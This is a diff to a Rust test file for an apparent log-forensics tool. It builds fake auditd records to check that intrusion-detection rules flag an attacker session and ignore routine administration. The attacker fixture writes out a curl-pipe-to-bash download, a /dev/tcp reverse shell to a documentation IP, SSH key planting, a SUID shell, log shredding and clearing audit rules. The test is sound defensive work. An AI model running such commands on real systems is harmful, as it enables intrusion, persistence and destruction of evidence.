@@ -4,6 +4,7 @@
 //! pam_unix, shadow-utils `useradd`); audit records follow the kernel's and libaudit's syntax
 //! (sshd `audit-linux.c`, `audit_log_acct_message`).
 
+use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 use std::process::Command;
 
@@ -297,4 +298,124 @@ fn compressed_and_binary_journal_fields_are_read() {
         assert_eq!(msgs[1].as_deref(), Some("two\nlines \u{fffd}"), "{src}");
     }
     assert_invariant(&case);
+}
+
+/// One kernel execve event as auditd writes it: SYSCALL, EXECVE (arguments with a space or a
+/// quote hex-encoded, as the kernel does), CWD, PROCTITLE, EOE.
+fn execve(t: i64, serial: u32, ses: u32, auid: u32, exe: &str, args: &[&str]) -> String {
+    let id = format!("{}.200:{serial}", T0 + t);
+    let comm = exe.rsplit('/').next().unwrap();
+    let enc = |a: &str| {
+        if a.contains([' ', '"', '\'']) || a.bytes().any(|b| !(0x21..=0x7e).contains(&b)) {
+            a.bytes().map(|b| format!("{b:02X}")).collect::<String>()
+        } else {
+            format!("\"{a}\"")
+        }
+    };
+    let argv: Vec<String> = args.iter().enumerate().map(|(i, a)| format!("a{i}={}", enc(a))).collect();
+    let title: String = args.join("\0").bytes().map(|b| format!("{b:02X}")).collect();
+    format!(
+        "type=SYSCALL msg=audit({id}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=4000 pid={} auid={auid} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses={ses} comm=\"{comm}\" exe=\"{exe}\" key=\"exec\"\n\
+         type=EXECVE msg=audit({id}): argc={} {}\n\
+         type=CWD msg=audit({id}): cwd=\"/root\"\n\
+         type=PROCTITLE msg=audit({id}): proctitle={title}\n\
+         type=EOE msg=audit({id}): \n",
+        4000 + serial,
+        args.len(),
+        argv.join(" ")
+    )
+}
+
+#[test]
+fn process_rules_fire_on_an_intrusion_and_stay_quiet_on_routine_admin() {
+    let mut log = audit_log();
+    let login = |t: i64, ses: u32, auid: u32, ip: &str| {
+        format!("type=USER_LOGIN msg=audit({}.300:{}): pid=3300 uid=0 auid={auid} ses={ses} msg='op=login id={auid} exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=/dev/pts/1 res=success'\n", T0 + t, 7000 + ses)
+    };
+    // The intruder's session 12 (root's login after the brute force, audit uid 0).
+    let attack: &[(&str, &[&str])] = &[
+        ("/usr/bin/bash", &["bash", "-c", "curl -s http://198.51.100.7/x.sh | bash"]),
+        ("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4443 0>&1"]),
+        ("/usr/bin/chmod", &["chmod", "+x", "/tmp/kit"]),
+        ("/tmp/kit", &["/tmp/kit", "--install"]),
+        ("/dev/shm/.x", &["/dev/shm/.x"]),
+        ("/usr/bin/chmod", &["chmod", "u+s", "/var/tmp/rootsh"]),
+        ("/usr/bin/tee", &["tee", "-a", "/root/.ssh/authorized_keys"]),
+        ("/usr/bin/shred", &["shred", "-u", "/var/log/auth.log"]),
+        ("/usr/sbin/auditctl", &["auditctl", "-D"]),
+    ];
+    for (k, (exe, args)) in attack.iter().enumerate() {
+        log += &execve(300 + k as i64 * 10, 9100 + k as u32, 12, 0, exe, args);
+    }
+    // An administrator's ordinary day: session 20 from the office, plus cron (no login uid).
+    log += &login(1000, 20, 1001, "10.0.0.5");
+    let routine: &[(u32, &str, &[&str])] = &[
+        (1001, "/usr/bin/apt-get", &["apt-get", "upgrade", "-y"]),
+        (
+            1001,
+            "/usr/bin/dash",
+            &["/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst", "configure", "1:9.2p1-2+deb12u3"],
+        ),
+        (1001, "/usr/bin/gpg", &["gpg", "--homedir", "/tmp/apt-key-gpghome.Xb4", "--verify", "Release.gpg"]),
+        (
+            1001,
+            "/usr/bin/curl",
+            &["curl", "-fsSL", "https://deb.example.org/key.gpg", "-o", "/usr/share/keyrings/example.gpg"],
+        ),
+        (1001, "/usr/bin/chmod", &["chmod", "644", "/etc/ssh/sshd_config"]),
+        (1001, "/usr/bin/systemctl", &["systemctl", "restart", "auditd"]),
+        (1001, "/usr/bin/journalctl", &["journalctl", "-u", "ssh", "--since", "today"]),
+        (1001, "/usr/bin/tar", &["tar", "czf", "/var/backups/etc.tgz", "/etc"]),
+        (4294967295, "/usr/bin/run-parts", &["run-parts", "--report", "/etc/cron.daily"]),
+        (4294967295, "/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
+        (4294967295, "/usr/bin/find", &["find", "/var/log", "-name", "*.gz", "-mtime", "+30", "-delete"]),
+    ];
+    for (k, (auid, exe, args)) in routine.iter().enumerate() {
+        log += &execve(
+            1100 + k as i64 * 10,
+            9300 + k as u32,
+            if *auid == 1001 { 20 } else { 4294967295 },
+            *auid,
+            exe,
+            args,
+        );
+    }
+    // sshd reading a key file at a login (a watch on ~/.ssh records it) is no planting.
+    log += &format!("type=SYSCALL msg=audit({}.000:9500): arch=c000003e syscall=257 success=yes exit=5 a0=ffffff9c a1=55 a2=0 a3=0 items=1 ppid=1 pid=3300 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"sshd\" exe=\"/usr/sbin/sshd\" key=\"rootkey\"\ntype=PATH msg=audit({}.000:9500): item=0 name=\"/root/.ssh/authorized_keys\" inode=5 dev=fd:00 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\n", T0 + 1500, T0 + 1500);
+    let dir = tempfile::tempdir().unwrap();
+    write(&dir.path().join("ev"), &format!("{HOST}/var/log/audit/audit.log"), log.as_bytes());
+    let case = dir.path().join("case");
+    let found = detect(&dir.path().join("ev"), &case);
+    let process: Vec<&Finding> = found.iter().filter(|f| f.rule == "process_activity").collect();
+    let kinds: BTreeSet<&str> = process.iter().filter_map(|f| f.details["kind"].as_str()).collect();
+    let want = [
+        "chmod_then_exec",
+        "download_to_shell",
+        "exec_from_tmp",
+        "log_wiping",
+        "reverse_shell",
+        "ssh_key_planting",
+        "suid_file",
+    ];
+    assert_eq!(
+        kinds,
+        want.into_iter().collect::<BTreeSet<_>>(),
+        "{:#?}",
+        process.iter().map(|f| &f.title).collect::<Vec<_>>()
+    );
+    for f in &process {
+        assert_eq!(f.source_ip.as_deref(), Some(ATTACKER), "linked to the login of its audit session: {}", f.title);
+        assert_eq!(f.details.get("audit_session").and_then(|s| s.as_str()), Some("12"), "{}", f.title);
+        assert!(!f.evidence.is_empty());
+        // Triage may raise a finding (part of an incident), never lower it.
+        use logsleuth::detect::finding::Severity;
+        let floor = if matches!(f.details["kind"].as_str(), Some("suid_file" | "ssh_key_planting")) {
+            Severity::Medium
+        } else {
+            Severity::High
+        };
+        assert!(f.severity >= floor, "{:?} {}", f.severity, f.title);
+    }
+    let chain = found.iter().find(|f| f.rule == "attack_chain").expect("an attack chain");
+    assert!(chain.title.contains("command and control") && chain.title.contains("log tampering"), "{}", chain.title);
 }
